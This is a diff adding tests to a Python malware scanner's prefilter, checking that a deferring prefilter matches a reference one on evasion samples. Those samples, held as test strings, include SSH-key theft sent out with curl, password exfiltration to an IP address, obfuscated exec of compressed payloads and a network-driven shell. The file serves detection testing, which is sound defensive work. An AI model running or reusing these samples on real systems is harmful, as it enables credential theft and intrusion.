@@ -20,6 +20,8 @@ import pytest
 
 from caplet._scan import _prefilter
 from caplet._scan._examples import EXAMPLES, Variant
+from caplet._scan._glued_strings import with_glued_strings
+from caplet._scan._logical_lines import with_logical_lines
 from caplet._scan._prefilter import BLIND, Need, Prefilter
 
 TUNE = Path(__file__).resolve().parents[2] / "benchmarks" / "malware" / "tune"
@@ -180,3 +182,44 @@ def test_a_blind_set_is_still_the_whole_file(
     monkeypatch.setattr(deferring, "_set", Failed())
     assert deferring._match(b"exec(zlib.decompress(B))") == ([BLIND], frozenset())
     assert deferring.check_text("x = 1\n") == (Need.FULL, True)
+
+
+#: attack7: texts where a deferred side could slip past the gate, each held to the
+#: reference through every way package mode asks (the widening of logical lines and
+#: glued literals, ``located``, the NFKC-folded text's own match, lone surrogates).
+_ATTACKS = (
+    # three sides, two deferred: a credential parameter, an address, exec as a name
+    "def login(user, password):\n    u = 'http://203.0.113.9/p'\n    exec(password)\n",
+    # credential files and a process sink (both deferred) beside a network program
+    "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    "os.system('curl -d ' + key + ' https://x.example')\n",
+    # the deferred side only in the NFKC-folded text, then the gate only there
+    "exec(\uff4264decode(B))\n",
+    "\uff45xec(b64decode(B))\n",
+    # the deferred side's line joined by a backslash continuation
+    "import requests\ndef login(user,\\\n password):\n"
+    "    requests.post('http://203.0.113.9/p', data=password)\n",
+    # an address glued from literals beside a credential parameter and an egress
+    "import requests\ndef login(user, password):\n"
+    "    requests.post('http:' '//203.0.113.9/p', data=password)\n",
+    # a lone surrogate beside a conjunction of a deferred side
+    "import zlib\nexec(zlib.decompress(B))  # \ud800\n",
+    # recall6's network input beside a process sink, blindcn's junk beside a process
+    "import asyncio, os\nasync def c():\n    r, w = await asyncio.open_connection(H, 1)\n"
+    "    os.system((await r.readline()).decode())\n",
+    "import subprocess\np = 'c#u#r#l'.replace('#', '')\nsubprocess.run([p, U])\n",
+)
+
+
+def _every_answer(check: Prefilter, text: str) -> tuple[object, ...]:
+    need, auditor = check.check_text(text)
+    widened = with_glued_strings(text, with_logical_lines(text, need, check.check), check.check)
+    return need, auditor, widened, check.located(text, 400), check.located(text, 400, aliases=False)
+
+
+@pytest.mark.parametrize("text", [t for a in _ATTACKS for t in (a, _padded(a))])
+def test_an_attack_on_the_gate_gets_the_reference_answers(
+    text: str, reference: Prefilter, deferring: Prefilter
+) -> None:
+    assert _every_answer(deferring, text) == _every_answer(reference, text)
+    assert _every_answer(reference, text)[2] is not Need.NOTHING  # each one the sets must see
